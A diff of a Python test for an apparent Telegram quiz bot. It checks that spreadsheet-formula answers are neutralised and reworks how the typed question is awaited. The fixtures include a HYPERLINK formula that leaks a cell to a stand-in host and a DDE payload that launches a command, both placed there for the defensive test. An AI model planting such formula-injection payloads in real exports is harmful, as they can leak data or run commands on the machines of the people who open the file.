@@ -13,10 +13,13 @@ MALLORY = user(666, '=HYPERLINK("http://evil.example/?leak="&A2,"Click")')
 EVE = user(667, "@SUM(1+1)")
 
 
-async def next_question(tg, count=2):
+async def next_typed_question(tg):
+    """/next, and the typed question it brings (with ForceReply; its live count comes after it)."""
     mark = tg.fake.mark()
     tg.fake.group_message(CLASS, TEACHER, "/next")
-    return (await tg.fake.wait_for("sendMessage", chat_id=GROUP, since=mark, count=count))[-1]
+    [question] = await tg.fake.wait_for("sendMessage", chat_id=GROUP, since=mark,
+                                        where=lambda c: "force_reply" in (c.params.get("reply_markup") or {}))
+    return question
 
 
 async def test_formula_like_cells_are_neutralised(tg):
@@ -31,8 +34,10 @@ async def test_formula_like_cells_are_neutralised(tg):
     mark = tg.fake.mark()
     tg.fake.group_message(CLASS, TEACHER, "/next")
     await tg.fake.wait_for("sendPoll", chat_id=GROUP, since=mark)  # question 2: a poll
-    await next_question(tg)  # question 3: buttons
-    typed = await next_question(tg)
+    mark = tg.fake.mark()
+    tg.fake.group_message(CLASS, TEACHER, "/next")
+    await tg.fake.wait_for("sendPoll", chat_id=GROUP, since=mark)  # question 3: a multi-answer poll
+    typed = await next_typed_question(tg)
     assert "Reply to this message" in typed.text
     for person, text in ((MALLORY, "=1+2"), (EVE, "+cmd|' /C calc'!A0"), (TEACHER, "-2+3"), (MALLORY, "\tx")):
         tg.fake.group_message(CLASS, person, text, reply_to=tg.fake.message(typed))
